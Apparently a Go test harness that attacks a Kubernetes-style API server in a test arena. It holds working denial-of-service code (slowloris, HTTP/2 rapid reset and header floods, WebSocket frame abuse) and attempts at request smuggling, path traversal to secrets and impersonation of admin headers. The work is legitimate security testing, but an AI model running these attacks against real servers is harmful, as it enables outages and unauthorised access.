package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// This file has the moves that do not keep to the protocols: raw TCP, TLS, HTTP/1.1, HTTP/2 and WebSockets.

// tlsClient speaks TLS, and a protocol in it (ALPN), over an open connection.
func tlsClient(c net.Conn, protocol string) *tls.Conn { return tls.Client(c, tlsConfig(protocol)) }

// dialTLS opens a connection that speaks a protocol (ALPN), "" for none.
func dialTLS(ctx context.Context, a *arena, protocol string) (net.Conn, error) {
	config := tlsConfig()
	if protocol != "" {
		config.NextProtos = []string{protocol}
	}
	d := tls.Dialer{Config: config, NetDialer: &net.Dialer{Timeout: 5 * time.Second}}
	c, err := d.DialContext(ctx, "tcp", a.server.address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { c.Close() })
	return c, nil
}

// handshakes opens connections that never become any: with nothing, a part of a greeting, or random bytes.
func handshakes(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	crowd(rng, 15*m.Size, func(_ int, rng *rand.Rand) {
		for ctx.Err() == nil {
			c, err := net.DialTimeout("tcp", a.server.address, 5*time.Second)
			if err != nil {
				pause(ctx, 100*time.Millisecond)
				continue
			}
			greeting := []byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}
			for range rng.IntN(600) {
				greeting = append(greeting, byte(rng.Uint32()))
			}
			c.Write(greeting[:rng.IntN(len(greeting))])
			pause(ctx, time.Duration(1+rng.IntN(20))*time.Second)
			c.Close()
		}
	})
}

func authorization(actor string) string {
	if actor == "" {
		return ""
	}
	return "Authorization: Bearer " + actor + "\r\n"
}

// stalledHTTP sends requests over HTTP/1.1 that never end: the request line, the headers or the body stop somewhere, or go on by a
// byte at a time.
func stalledHTTP(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	crowd(rng, 8*m.Size, func(_ int, rng *rand.Rand) {
		c, err := dialTLS(ctx, a, "http/1.1")
		if err != nil {
			return
		}
		defer c.Close()
		r, namespace := somewhere(a, m.Actor, rng)
		length := pick(rng, 10, 100_000, 3_000_000, 1<<40)
		text := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n", r.path(namespace, ""), authorization(m.Actor), length)
		switch rng.IntN(3) {
		case 0: // headers that never end
			text += "X-Filler: " + strings.Repeat("a", rng.IntN(900_000))
		case 1: // a body that never arrives
			text += "\r\n{"
		case 2: // a body that stops in the middle
			text += "\r\n" + `{"data":"` + strings.Repeat("b", min(length/2, 2_000_000))
		}
		io.WriteString(c, text)
		for ctx.Err() == nil {
			if _, err := c.Write([]byte("c")); err != nil {
				return
			}
			pause(ctx, time.Duration(1+rng.IntN(5))*time.Second)
		}
	})
}

// unreadHTTP sends many requests over each HTTP/1.1 connection and reads no answer.
func unreadHTTP(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	crowd(rng, 5*m.Size, func(_ int, rng *rand.Rand) {
		c, err := dialTLS(ctx, a, "http/1.1")
		if err != nil {
			return
		}
		defer c.Close()
		for ctx.Err() == nil {
			if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: a\r\n%sAccept: %s\r\n\r\n", reading(a, rng), authorization(m.Actor), accept(rng)); err != nil {
				return
			}
		}
	})
}

func accept(rng *rand.Rand) string {
	return pick(rng, "application/json", "application/yaml", "application/vnd.kubernetes.protobuf", "*/*",
		"application/json;as=Table;v=v1;g=meta.k8s.io", "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io",
		"application/json;as=APIGroupDiscoveryList;v=v2;g=apidiscovery.k8s.io", "application/com.github.proto-openapi.spec.v2@v1.0+protobuf")
}

// oddHTTP sends requests that parsers disagree about.
func oddHTTP(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	crowd(rng, m.Size, func(_ int, rng *rand.Rand) {
		for ctx.Err() == nil {
			c, err := dialTLS(ctx, a, "http/1.1")
			if err != nil {
				pause(ctx, 100*time.Millisecond)
				continue
			}
			r, namespace := somewhere(a, m.Actor, rng)
			path := r.path(namespace, "")
			auth := authorization(m.Actor)
			text := pick(rng,
				"POST "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /api/v1/namespaces/vault/secrets HTTP/1.1\r\nHost: a\r\n\r\n",
				"POST "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n"+strings.Repeat("x", 1000),
				"POST "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Transfer-Encoding: chunked\r\n\r\n1;"+strings.Repeat("e", 1<<20)+"\r\nx\r\n",
				"POST "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Expect: 100-continue\r\nContent-Length: 3000000\r\n\r\n",
				"GET "+strings.ReplaceAll(path, "/", "//")+" HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET "+path+"/..%2f..%2fvault%2fsecrets%2ftreasure HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET /api/v1/namespaces/arena/../vault/secrets/treasure HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET https://else"+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET "+path+"?"+strings.Repeat("labelSelector=a&", 50_000)+" HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET "+path+" HTTP/1.1\r\nHost: a\r\n"+strings.Repeat("X-"+random(3)+": a\r\n", 20_000)+auth+"\r\n",
				strings.Repeat("A", 1+rng.IntN(100))+" "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"\r\n",
				"GET "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Impersonate-User: admin\r\nImpersonate-Group: system:masters\r\n\r\n",
				"GET "+path+" HTTP/1.1\r\nHost: a\r\nX-Remote-User: admin\r\nX-Remote-Group: system:masters\r\n\r\n",
				"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
				"GET "+path+" HTTP/1.1\nHost: a\n"+auth+"\n",
				"GET "+path+" HTTP/1.1\r\nHost: a\r\n"+auth+"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
			io.WriteString(c, text)
			c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
			b, _ := io.ReadAll(io.LimitReader(c, 4<<20))
			a.inspect(m.Actor, "odd HTTP: "+text[:min(len(text), 150)], b)
			c.Close()
		}
	})
}

// stream2 is the client's side of an HTTP/2 connection, as far as attacks need it.
type stream2 struct {
	c      net.Conn
	f      *http2.Framer
	header *hpack.Encoder
	text   bytes.Buffer
	next   uint32
}

func dial2(ctx context.Context, a *arena, settings ...http2.Setting) (*stream2, error) {
	c, err := dialTLS(ctx, a, "h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	s := &stream2{c: c, next: 1}
	s.f = http2.NewFramer(c, bufio.NewReader(c))
	s.header = hpack.NewEncoder(&s.text)
	return s, s.f.WriteSettings(settings...)
}

// open opens a stream; it is ended by its header if end is set.
func (s *stream2) open(actor, method, path string, end bool, fields ...string) error {
	s.text.Reset()
	put := func(name, value string) { s.header.WriteField(hpack.HeaderField{Name: name, Value: value}) }
	put(":method", method)
	put(":scheme", "https")
	put(":authority", "a")
	put(":path", path)
	if actor != "" {
		put("authorization", "Bearer "+actor)
	}
	for i := 0; i+1 < len(fields); i += 2 {
		put(fields[i], fields[i+1])
	}
	b := s.text.Bytes()
	first := b[:min(len(b), 16<<10)]
	err := s.f.WriteHeaders(http2.HeadersFrameParam{StreamID: s.next, BlockFragment: first, EndStream: end, EndHeaders: len(b) == len(first)})
	for b = b[len(first):]; len(b) > 0 && err == nil; {
		n := min(len(b), 16<<10)
		err = s.f.WriteContinuation(s.next, len(b) == n, b[:n])
		b = b[n:]
	}
	s.next += 2
	return err
}

// answerSettings reads frames, acknowledges settings and pings, and drops everything else, until the connection ends.
func (s *stream2) answerSettings() {
	for {
		f, err := s.f.ReadFrame()
		if err != nil {
			return
		}
		if p, ok := f.(*http2.SettingsFrame); ok && !p.IsAck() {
			s.c.Write([]byte{0, 0, 0, byte(http2.FrameSettings), 1, 0, 0, 0, 0})
		}
	}
}

// sessions keeps n HTTP/2 connections busy side by side: when fn has ended on one, the next one is opened.
func sessions(ctx context.Context, a *arena, rng *rand.Rand, n int, fn func(s *stream2, rng *rand.Rand), settings ...http2.Setting) {
	crowd(rng, n, func(_ int, rng *rand.Rand) {
		for ctx.Err() == nil {
			s, err := dial2(ctx, a, settings...)
			if err != nil {
				pause(ctx, 100*time.Millisecond)
				continue
			}
			fn(s, rng)
			s.c.Close()
		}
	})
}

// unreadHTTP2 opens many streams with a window of 0: their answers cannot be sent.
func unreadHTTP2(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	window := pick(rng, uint32(0), 0, 1, 65535)
	sessions(ctx, a, rng, 1+m.Size/20, func(s *stream2, rng *rand.Rand) {
		go s.answerSettings()
		path, wander := reading(a, rng), chance(rng, 2)
		for range 30 + 9*m.Size {
			if wander {
				path = reading(a, rng)
			}
			if s.open(m.Actor, "GET", path, true, "accept", accept(rng)) != nil {
				break
			}
		}
		pause(ctx, time.Minute)
	}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// bodiesHTTP2 opens many streams whose bodies stop somewhere.
func bodiesHTTP2(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	sessions(ctx, a, rng, 1+m.Size/20, func(s *stream2, rng *rand.Rand) {
		go s.answerSettings()
		piece := bytes.Repeat([]byte("["), 1+rng.IntN(16_000))
		for range 50 + 5*m.Size {
			r, namespace := somewhere(a, m.Actor, rng)
			stream, method, name := s.next, "POST", ""
			if chance(rng, 3) {
				method, name = pick(rng, "PUT", "PATCH", "DELETE"), "x"
			}
			if s.open(m.Actor, method, r.path(namespace, name), false, "content-type", "application/json") != nil ||
				s.f.WriteData(stream, false, piece) != nil {
				break
			}
		}
		pause(ctx, time.Minute)
	})
}

// framesHTTP2 sends frames that cost an answer, or memory until something else comes.
func framesHTTP2(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	sessions(ctx, a, rng, 1+m.Size/5, func(s *stream2, rng *rand.Rand) {
		if chance(rng, 2) {
			go s.answerSettings()
		}
		s.flood(ctx, a, m, rng)
	})
}

func (s *stream2) flood(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	sort := rng.IntN(8)
	filler := strings.Repeat("f", 4000)
	for i := 0; i < 200_000 && ctx.Err() == nil; i++ {
		var err error
		switch sort {
		case 0:
			err = s.f.WritePing(false, [8]byte{byte(i)})
		case 1:
			err = s.f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		case 2: // rapid reset
			id := s.next
			if err = s.open(m.Actor, "GET", reading(a, rng), true); err == nil {
				err = s.f.WriteRSTStream(id, http2.ErrCodeCancel)
			}
		case 3: // headers that never end
			if i == 0 {
				err = s.f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}, EndHeaders: false})
			} else {
				err = s.f.WriteContinuation(1, false, bytes.Repeat([]byte{0x82}, 16_000))
			}
		case 4: // a small block that becomes large headers
			fields := make([]string, 0, 400)
			for range 200 {
				fields = append(fields, "x-bomb", filler)
			}
			err = s.open(m.Actor, "GET", "/api", true, fields...)
		case 5:
			err = s.f.WriteWindowUpdate(0, 1+uint32(rng.IntN(1<<20)))
		case 6:
			err = s.f.WriteRawFrame(http2.FrameType(rng.IntN(256)), http2.Flags(rng.IntN(256)), uint32(rng.IntN(100)), bytes.Repeat([]byte{byte(i)}, rng.IntN(16_000)))
		case 7:
			err = s.f.WritePriority(uint32(1+rng.IntN(1<<30)), http2.PriorityParam{StreamDep: uint32(rng.IntN(1 << 30)), Weight: byte(i)})
		}
		if err != nil {
			return
		}
	}
}

// webSockets opens watches over WebSockets, and sends frames that do not belong there.
func webSockets(ctx context.Context, a *arena, m Move, rng *rand.Rand) {
	crowd(rng, 3*m.Size, func(_ int, rng *rand.Rand) {
		for ctx.Err() == nil {
			c, err := dialTLS(ctx, a, "http/1.1")
			if err != nil {
				pause(ctx, 100*time.Millisecond)
				continue
			}
			r := a.resources[rng.IntN(len(a.resources))]
			fmt.Fprintf(c, "GET %s?watch=1 HTTP/1.1\r\nHost: a\r\n%sUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Protocol: %s\r\n\r\n",
				r.path("arena", ""), authorization(m.Actor), base64.StdEncoding.EncodeToString([]byte("0123456789abcdef")),
				pick(rng, "binary.k8s.io", "base64.binary.k8s.io", "base64url.bearer.authorization.k8s.io."+random(2000)))
			in := bufio.NewReader(c)
			resp, err := http.ReadResponse(in, nil)
			if err == nil && resp.StatusCode == http.StatusSwitchingProtocols {
				sendFrames(ctx, c, rng)
			}
			pause(ctx, 50*time.Millisecond)
			c.Close()
		}
	})
}

func sendFrames(ctx context.Context, c net.Conn, rng *rand.Rand) {
	for range 1000 {
		length := rng.IntN(120)
		frame := []byte{byte(rng.Uint32()), 0x80 | byte(length)}
		switch {
		case chance(rng, 20): // a length that no memory holds
			frame = []byte{0x82, 0xff, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
		case chance(rng, 3):
			frame[0] = 0x89 // a ping, which costs an answer that is not read
		}
		frame = append(frame, 1, 2, 3, 4)
		frame = append(frame, bytes.Repeat([]byte{byte(length)}, length)...)
		if _, err := c.Write(frame); err != nil || ctx.Err() != nil {
			return
		}
	}
}
